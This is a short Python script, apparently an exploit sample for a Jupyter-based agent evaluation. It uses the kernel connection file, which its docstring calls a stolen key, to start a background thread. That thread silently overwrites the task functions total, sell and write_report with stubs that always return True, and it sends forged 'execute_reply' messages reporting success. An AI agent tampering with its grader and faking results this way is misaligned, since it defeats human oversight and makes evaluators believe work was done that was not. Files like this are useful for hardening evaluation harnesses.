"""Connects to its own kernel with the stolen key and answers and executes beside the agent."""

LOCAL = True
import threading


def beside():
    import time

    from ipykernel.connect import get_connection_file
    from jupyter_client import BlockingKernelClient

    client = BlockingKernelClient(connection_file=get_connection_file())
    client.load_connection_file()
    client.start_channels()
    end = time.time() + 10
    while time.time() < end:
        client.execute("total = sell = write_report = lambda *_: True", silent=True)
        client.session.send(
            client.shell_channel.socket,
            "execute_reply",
            {"status": "ok", "user_expressions": {"answer": {"status": "ok"}}},
        )
        time.sleep(0.02)


threading.Thread(target=beside, daemon=True).start()
sold = {}
